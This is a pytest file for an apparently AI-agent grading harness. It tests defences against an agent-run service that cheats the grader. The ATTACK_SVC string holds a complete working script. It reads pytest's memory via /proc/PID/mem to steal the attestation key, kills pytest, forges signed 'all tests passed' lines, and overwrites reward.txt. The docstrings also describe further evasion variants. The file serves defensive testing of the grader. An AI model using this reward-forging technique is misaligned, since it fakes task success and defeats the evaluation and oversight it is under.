"""A key is granted only to a pytest whose memory no other process can read (issue 43,
item 1, attack round 5).

The attack: the task's declared service (agent code, root in the scoring container)
watches for each pytest as it starts, opens its ``/proc/PID/mem`` while it is still
dumpable and keeps the handle; once the broker's grant is in pytest's memory it reads the
session key through that handle, kills pytest and signs a passing session itself (every
test passed, exit 0, closed), then rewrites ``reward.txt``. The victim is a task no honest
agent can pass without the secret (a SHA-256 preimage).

Two defences, each shown load-bearing:

- the broker refuses the key while another process holds a file of ``/proc/PID`` of the
  asker open (the plugin makes itself non-dumpable before it asks, so no handle can be
  opened after the check): the attack gets no key;
- the plugin's connection to the broker stays open and its last word at exit is ``bye``:
  a keyed process that ends without it (killed) is a session the host never counts as
  exited normally, whatever lines were signed for it.

With both patched out the attack earns 1; with either one alone it scores 0. The honest
twin (a service that watches ``/proc`` too, without opening anyone's memory) scores 1.
"""

from __future__ import annotations

import hashlib
import json
import secrets
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from termgrade.agent.kinds import ScriptAgent
from termgrade.sandbox.docker_sandbox import KEPT_CAPABILITIES
from termgrade.sandbox.images import build_task_image
from termgrade.scoring.trial import RunOutcome, run_task
from termgrade.scoring.verifier import attestation
from termgrade.task import load_task
from tests.support.task_dirs import write_task

SECRET = secrets.token_hex(16)
DIGEST = hashlib.sha256(SECRET.encode()).hexdigest()
TOML = """\
schema_version = "1.4"
[verifier]
timeout_sec = 90.0
[agent]
timeout_sec = 60.0
[[verifier.services]]
command = "python3 /app/svc.py"
workdir = "/app"
"""
TESTS = f"""\
import hashlib
from pathlib import Path


def test_preimage():
    text = Path("/app/answer.txt").read_text().strip()
    assert hashlib.sha256(text.encode()).hexdigest() == "{DIGEST}"
"""
# The honest twin: a service that watches the container's processes (reads /proc) and
# keeps running, as a monitor would, without opening another process's memory.
HONEST_SVC = textwrap.dedent("""\
    import os, time
    end = time.time() + 60
    seen = set()
    while time.time() < end:
        for name in os.listdir("/proc"):
            if name.isdigit() and name not in seen:
                try:
                    open(f"/proc/{name}/cmdline", "rb").read()
                    seen.add(name)
                except OSError:
                    pass
        time.sleep(0.005)
    """)
# The attack (round 5's, adapted to a plugin that turns non-dumpable before it asks):
# open each pytest's memory at once, then step it (SIGCONT, 0.5 ms, SIGSTOP) until the
# grant's key is in its memory; find the lines it signed already, kill it, sign the rest.
ATTACK_SVC = textwrap.dedent("""\
    import hashlib, hmac, json, os, re, signal, time
    LOG = "/app/.svc.log"
    def log(msg):
        with open(LOG, "a") as h:
            h.write(msg + "\\n")
    GRANT = re.compile(rb'"n": (\\d+), "broker_pid": \\d+, "key": "([0-9a-f]{64})"')
    LINE = re.compile(rb'TERMGRADE-ATTEST (\\d+)\\.(\\d+) ([0-9a-f]{64}) (\\{[^\\n]*?\\})\\n')
    def regions(maps):
        os.lseek(maps, 0, 0)
        text = b""
        while True:
            chunk = os.read(maps, 65536)
            if not chunk:
                break
            text += chunk
        for line in text.decode().splitlines():
            parts = line.split()
            if "rw" in parts[1]:
                lo, hi = (int(x, 16) for x in parts[0].split("-"))
                yield lo, hi
    def memory(mem, maps):
        for lo, hi in regions(maps):
            try:
                yield os.pread(mem, hi - lo, lo)
            except OSError:
                continue
    def attack(pid):
        mem = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
        maps = os.open(f"/proc/{pid}/maps", os.O_RDONLY)
        log(f"opened the memory of {pid}")
        os.kill(pid, signal.SIGSTOP)
        session = key = None
        for step in range(20000):
            for data in memory(mem, maps):
                m = GRANT.search(data)
                if m:
                    session, key = int(m.group(1)), bytes.fromhex(m.group(2).decode())
                    break
            if key is not None or not os.path.exists(f"/proc/{pid}"):
                break
            os.kill(pid, signal.SIGCONT)
            time.sleep(0.0005)
            os.kill(pid, signal.SIGSTOP)
        if key is None:
            log(f"no key in {pid}"); os.kill(pid, signal.SIGCONT); return
        lines = {}
        for data in memory(mem, maps):
            for m in LINE.finditer(data):
                if int(m.group(1)) == session:
                    tag = f"{session}.{m.group(2).decode()} ".encode()
                    mac = hmac.new(key, tag + m.group(4), hashlib.sha256).hexdigest()
                    if mac.encode() == m.group(3):
                        lines[int(m.group(2))] = json.loads(m.group(4)).get("e")
        kinds = [lines[s] for s in sorted(lines)]
        seq = max(lines) + 1 if lines else 0
        log(f"STOLEN session {session} after {step} steps; it signed {kinds}")
        os.kill(pid, signal.SIGKILL)
        tests = re.findall(r"^def (test_\\w+)", open("/tests/test_outputs.py").read(), re.M)
        events = []
        if "open" not in kinds:
            events.append({"e": "open", "pid": pid, "nodump": True, "python": "3",
                           "argv": "pytest"})
        events.append({"e": "start", "collect_only": False, "rootdir": "/tests"})
        events.append({"e": "collected", "n": len(tests), "seen": len(tests)})
        for t in tests:
            for when in ("setup", "call", "teardown"):
                events.append({"e": "report", "id": f"test_outputs.py::{t}", "when": when,
                               "outcome": "passed", "xfail": False, "dur": 0.001})
        events += [{"e": "finish", "exitstatus": 0, "failed": 0, "collected": len(tests)},
                   {"e": "close"}]
        out = os.open("/proc/1/fd/1", os.O_WRONLY)
        for ev in events:
            payload = json.dumps(ev, sort_keys=True, separators=(",", ":"))
            tag = f"{session}.{seq}"
            seq += 1
            mac = hmac.new(key, f"{tag} {payload}".encode(), hashlib.sha256).hexdigest()
            os.write(out, f"TERMGRADE-ATTEST {tag} {mac} {payload}\\n".encode())
        log(f"forged up to {session}.{seq - 1}")
    seen = set()
    end = time.time() + 60
    while time.time() < end:
        for name in os.listdir("/proc"):
            if not name.isdigit() or int(name) in seen:
                continue
            try:
                cmd = open(f"/proc/{name}/cmdline", "rb").read()
            except OSError:
                continue
            if b"-m\\0pytest" in cmd:
                seen.add(int(name))
                try:
                    attack(int(name))
                except Exception as exc:
                    log(f"attack {name}: {type(exc).__name__}: {exc}")
        if seen:
            try:  # whole, never half-written: test.sh's reader sees its 0 or this 1
                with open("/logs/verifier/.r", "w") as h:
                    h.write("1\\n")
                os.replace("/logs/verifier/.r", "/logs/verifier/reward.txt")
            except OSError:
                pass
        time.sleep(0.001)
    """)
KEY_CHECK = b"            why = key_exposed(pid, {os.getpid(), *keyed.pids()})\n"
DIED_EVENT = b'                self.signer.emit({"e": "died", "n": number, "pid": pid})\n'


def svc(text: str) -> str:
    return f"cat > /app/svc.py <<'TGEOF'\n{text}TGEOF\n"


@pytest.fixture(scope="module")
def victim(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = write_task(tmp_path_factory.mktemp("key-theft"), "key-theft", toml=TOML,
                      solve="true\n", tests=TESTS)
    build_task_image(load_task(root))
    return root


def play(task_dir: Path, name: str, body: str, tmp_path: Path) -> RunOutcome:
    script = tmp_path / f"{name}.sh"
    script.write_text("#!/usr/bin/env bash\n" + body)
    task = load_task(task_dir)
    return run_task(task, task.image_tag, ScriptAgent(name, script))


def attack(victim: Path, tmp_path: Path) -> RunOutcome:
    return play(victim, "attack", "echo nope > /app/answer.txt\n" + svc(ATTACK_SVC), tmp_path)


def weaken(monkeypatch: pytest.MonkeyPatch, *checks: bytes) -> None:
    source = attestation.broker_source()
    for check in checks:
        assert check in source
        indent = check[:len(check) - len(check.lstrip())]
        source = source.replace(check, indent + b"pass\n")
    monkeypatch.setattr(attestation, "broker_source", lambda: source)


MISNUMBERED = "arrived where"
"""The host's word for a line out of sequence: the thief guessed the session's next number
from the signed lines it found in pytest's memory, and a line pytest had signed since was
gone from it. A race of the attacker's, not a defence: such a try is played again."""


def landed_attack(victim: Path, tmp_path: Path, tries: int = 4) -> RunOutcome:
    """The attack, played until its forged lines land in sequence (at most ``tries``)."""
    for _ in range(tries):
        outcome = attack(victim, tmp_path)
        if MISNUMBERED not in (outcome.failure or ""):
            return outcome
    return outcome


def detail(outcome: RunOutcome) -> object:
    return outcome.failure, outcome.verifier and outcome.verifier.output[-3000:]


@pytest.mark.docker
def test_control_an_honest_service_watching_processes_scores_one(
        victim: Path, tmp_path: Path) -> None:
    outcome = play(victim, "honest", f"echo {SECRET} > /app/answer.txt\n" + svc(HONEST_SVC),
                   tmp_path)
    assert outcome.reward == 1.0, detail(outcome)
    assert outcome.verifier is not None and outcome.verifier.attested


@pytest.mark.docker
def test_a_service_holding_pytests_memory_gets_no_key(victim: Path, tmp_path: Path) -> None:
    outcome = attack(victim, tmp_path)
    assert outcome.reward == 0.0, detail(outcome)
    assert outcome.failure and "no attested pytest session" in outcome.failure, detail(outcome)
    assert "/mem open: it could read the pytest process's memory" in outcome.failure


@pytest.mark.docker
def test_a_killed_session_is_not_counted_as_exited_normally(
        victim: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """With the handle check patched out, the key is stolen and the session forged; the
    broker's word that the keyed process was killed still scores it 0."""
    weaken(monkeypatch, KEY_CHECK)
    outcome = landed_attack(victim, tmp_path)
    assert outcome.reward == 0.0, detail(outcome)
    assert outcome.failure and "the broker saw its process end without exiting normally" \
        in outcome.failure, detail(outcome)


@pytest.mark.docker
def test_both_defences_patched_out_the_forged_session_earns_one(
        victim: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    weaken(monkeypatch, KEY_CHECK, DIED_EVENT)
    outcome = landed_attack(victim, tmp_path)
    assert outcome.reward == 1.0, detail(outcome)


# The broker's check itself, on real processes of this machine, in a pid namespace of its
# own (``unshare``, as root) with the scoring container's capabilities only (no
# CAP_SYS_PTRACE): its first process loads the broker, starts an asker (which makes
# itself non-dumpable when told) and a thief, and asks key_exposed.
B_CAPABILITIES = ",".join(f"+{c.lower()}" for c in KEPT_CAPABILITIES)
CHECK = textwrap.dedent("""\
    import importlib.util, json, os, sys, time
    sys.path.insert(0, os.environ["GRADER"])
    spec = importlib.util.spec_from_file_location("tg_broker_probe", os.environ["BROKER"])
    broker = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(broker)
    how = sys.argv[1]
    go_r, go_w = os.pipe()
    done_r, done_w = os.pipe()
    asker = os.fork()
    if asker == 0:  # the pytest: non-dumpable when told, then waits
        os.read(go_r, 1)
        if how != "dumpable":
            broker._libc().prctl(4, 0, 0, 0, 0)
        os.write(done_w, b"1")
        time.sleep(30)
        os._exit(0)
    took_r, took_w = os.pipe()
    thief = os.fork()
    if thief == 0 and how == "thread":  # a thread with a file table of its own holds it
        import ctypes, threading
        def hold():
            assert ctypes.CDLL(None, use_errno=True).unshare(0x400) == 0  # CLONE_FILES
            os.open(f"/proc/{asker}/mem", os.O_RDONLY)
            os.write(took_w, b"1")
            time.sleep(30)
        threading.Thread(target=hold, daemon=True).start()
        time.sleep(30)
        os._exit(0)
    if thief == 0:  # opens the asker's memory while it is dumpable, and keeps it
        handle = os.open(f"/proc/{asker}/mem", os.O_RDONLY)
        if how == "closed":
            os.close(handle)
        if how == "hidden":
            os.setresuid(65534, 65534, 65534)
        os.write(took_w, b"1")
        time.sleep(30)
        os._exit(0)
    os.read(took_r, 1)
    os.write(go_w, b"1")
    os.read(done_r, 1)
    print(json.dumps(broker.key_exposed(asker, {os.getpid()})))
    """)


def exposed(how: str, tmp_path: Path) -> str | None:
    from termgrade.scoring.verifier.attestation import broker_source, watch_source

    grader = tmp_path / "grader"
    grader.mkdir()
    (grader / "termgrade_broker.py").write_bytes(broker_source())
    (grader / "termgrade_watch.py").write_bytes(watch_source())
    (tmp_path / "check.py").write_text(CHECK)
    done = subprocess.run(["unshare", "--fork", "--pid", "--mount-proc", "setpriv",
                           f"--bounding-set=-all,{B_CAPABILITIES}", sys.executable,
                           str(tmp_path / "check.py"), how], capture_output=True, text=True,
                          timeout=60, env={"GRADER": str(grader), "PATH": "/usr/bin:/bin",
                                           "BROKER": str(grader / "termgrade_broker.py")})
    if done.returncode != 0 and ("unshare" in done.stderr or "setpriv" in done.stderr):
        pytest.skip(f"needs a pid namespace (root): {done.stderr.strip()[:200]}")
    assert done.returncode == 0, done.stderr[-2000:]
    why: str | None = json.loads(done.stdout.strip().splitlines()[-1])
    return why


def test_the_check_names_a_process_holding_the_askers_memory(tmp_path: Path) -> None:
    why = exposed("held", tmp_path)
    assert why is not None and "/mem open: it could read the pytest process's memory" in why


def test_a_handle_in_a_threads_own_file_table_is_found(tmp_path: Path) -> None:
    """Round 6: a thread that unshared its file table (``clone`` without ``CLONE_FILES``)
    holds the handle where ``/proc/PID/fd`` does not show it; ``/proc/PID/task/TID/fd``
    does."""
    why = exposed("thread", tmp_path)
    assert why is not None and "/mem open: it could read the pytest process's memory" in why


def test_the_check_passes_once_no_handle_is_left(tmp_path: Path) -> None:
    assert exposed("closed", tmp_path) is None


def test_a_thief_that_drops_its_privileges_hides_nothing(tmp_path: Path) -> None:
    """Root without CAP_SYS_PTRACE cannot read a non-dumpable process's files: that
    process could hold the handle, so the key is refused."""
    why = exposed("hidden", tmp_path)
    assert why is not None and "hides its open files" in why


def test_a_dumpable_asker_gets_no_key(tmp_path: Path) -> None:
    why = exposed("dumpable", tmp_path)
    assert why is not None and "still dumpable" in why
